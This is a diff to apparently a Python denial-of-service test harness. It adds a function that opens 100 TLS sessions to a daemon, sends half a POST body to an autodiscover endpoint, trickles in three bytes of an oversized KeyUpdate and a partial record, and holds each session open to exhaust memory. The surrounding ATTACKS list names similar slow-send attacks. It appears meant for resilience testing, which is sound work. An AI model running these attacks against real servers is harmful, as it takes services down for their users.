@@ -71,6 +71,23 @@ def bodies(target, count):
     return held
 
 
+def bodies_and_messages(target, count):
+    """Half a body, then three bytes of a KeyUpdate and most of a record with the rest. The daemon reads one record at
+    a time."""
+    head = f"POST /autodiscover/autodiscover.xml HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 8192\r\n\r\n".encode()
+    held = []
+    for _ in range(count):
+        session = target.session()
+        session.send(session.seal(tls_records.DATA, head + bytes(4096)))
+        for byte in tls_records.message(tls_records.KEY_UPDATE, 16 * MIB - 1)[:3]:
+            assert session.wait_until_read()
+            session.send(session.seal(tls_records.HANDSHAKE, bytes([byte])))
+        assert session.wait_until_read()
+        session.send(session.seal(tls_records.HANDSHAKE, bytes(16000))[:15000])
+        held.append(session)
+    return held
+
+
 ATTACKS = (
     ("60 ClientHellos of 16 MiB, 10 MiB sent", lambda target: hellos_of_16_mib(target, 60)),
     ("1,500 ClientHellos of 127 KiB, 126 KiB sent", lambda target: hellos(target, 1500, 130000, 126 * 1024)),
@@ -79,6 +96,7 @@ ATTACKS = (
     ("400 KeyUpdates of 16 MiB, one record sent", lambda target: messages(target, 400, 1, 16000)),
     ("400 KeyUpdates, three bytes in three records", lambda target: messages(target, 400, 3, 1)),
     ("400 POST with half a body and half a record", lambda target: bodies(target, 400)),
+    ("100 POST, half a body, half a KeyUpdate", lambda target: bodies_and_messages(target, 100)),
     ("400 idle sessions", lambda target: [target.session() for _ in range(400)]),
 )
 
